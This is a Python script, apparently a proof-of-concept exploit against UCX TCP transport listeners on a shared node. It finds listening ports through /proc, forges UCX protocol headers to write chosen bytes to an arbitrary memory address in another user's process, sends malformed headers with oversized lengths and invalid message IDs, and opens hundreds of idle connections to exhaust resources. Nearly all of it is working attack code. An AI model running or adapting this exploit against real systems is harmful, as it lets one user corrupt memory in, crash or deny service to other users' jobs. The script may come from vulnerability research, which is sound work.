"""What another user does to the ports that UCX listens on.

attack_port.py put|all ADDRESS PORT...: of eight bytes in a process that listens here. Prints what it did, and keeps its idle
connections until its input ends.
"""
import socket
import struct
import sys

MAGIC = struct.pack("<Q", 0xCAFEBABE12345678)
AM_ID_MAX = 32
HEAD = struct.Struct("<BI")  # uct_tcp_am_hdr_t


def ports():
    """That anybody on this node listens on, as /proc tells everybody."""
    found = []
    for name, family in (("tcp", socket.AF_INET), ("tcp6", socket.AF_INET6)):
        with open(f"/proc/net/{name}") as f:
            for line in f.readlines()[1:]:
                words = line.split()
                if words[3] == "0A":
                    host, port = words[1].split(":")
                    found.append((family, host, int(port, 16)))
    return found


def address(host):
    raw = bytes.fromhex(host)
    raw = b"".join(raw[i:i + 4][::-1] for i in range(0, len(raw), 4))
    text = socket.inet_ntop(socket.AF_INET if len(raw) == 4 else socket.AF_INET6, raw)
    return {"0.0.0.0": "127.0.0.1", "::": "::1"}.get(text, text)


def put(to, data):
    """uct_tcp_ep_put_req_hdr_t."""
    head = struct.pack("<QQI", to, len(data), 1)
    return MAGIC + HEAD.pack(AM_ID_MAX + 1, len(head)) + head + data


def connect(port):
    s = socket.socket(port[0], socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect((address(port[1]), port[2]))
    return s


def say(port, words):
    """Until the other end has closed it, or for a second: whether it has, and what it said."""
    heard = b""
    s = connect(port)
    try:
        with s:
            s.sendall(words)
            s.settimeout(1)
            while True:
                some = s.recv(4096)
                if not some:
                    return True, heard
                heard += some
    except TimeoutError:
        return False, heard
    except OSError:
        return True, heard


target = int(sys.argv[2], 16)
there = [port for port in ports() if port[2] in map(int, sys.argv[3:])]
assert there or sys.argv[1] == "put"  # the attack on the other node has ended the one that listened here, too
idle = []
for port in there:
    try:
        closed, heard = say(port, put(target, b"ATTACKED"))
    except ConnectionRefusedError:
        assert sys.argv[1] == "put"  # which has ended the one that listened there
        continue
    print(port[2], "put", "closed" if closed else "open", heard)
    if sys.argv[1] == "put":
        continue
    say(port, put(16, b"x" * 4096))
    for i in range(4):
        say(port, MAGIC + HEAD.pack(AM_ID_MAX + i, 0xFFFFFFF0 >> i) + bytes(64))
    say(port, b"dyadDOOR\2" + bytes(91))
    for _ in range(250):
        try:
            idle.append(connect(port))
        except OSError:
            break
assert sys.argv[1] == "put" or len(idle) > 100 * len(there), len(idle)
print(len(idle), "idle")
sys.stdout.flush()
sys.stdin.read()  # until the script has seen that the job goes on
